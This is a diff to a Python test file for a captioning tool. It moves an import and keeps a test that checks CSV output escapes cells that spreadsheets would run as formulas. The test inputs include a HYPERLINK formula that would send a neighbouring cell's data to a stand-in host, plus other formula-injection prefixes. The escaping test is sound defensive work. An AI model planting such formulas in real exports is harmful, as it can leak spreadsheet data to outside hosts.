@@ -141,7 +141,8 @@ def test_resume_keeps_records_of_names_with_unicode_line_breaks(tmp_path, fmt):
 
 
 def test_csv_text_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text():
-    from captioner.outputs import csv_cell, written_path
+    from captioner.escapes import csv_cell
+    from captioner.outputs import written_path
 
     sources = ['=HYPERLINK("http://x.test/?"&B2,"open").jpg', "+1.jpg", "-2.jpg", "@SUM(A1).jpg", "\tx.jpg",
                "\rx.jpg", "'q.jpg", "''.jpg", "plain=.jpg"]
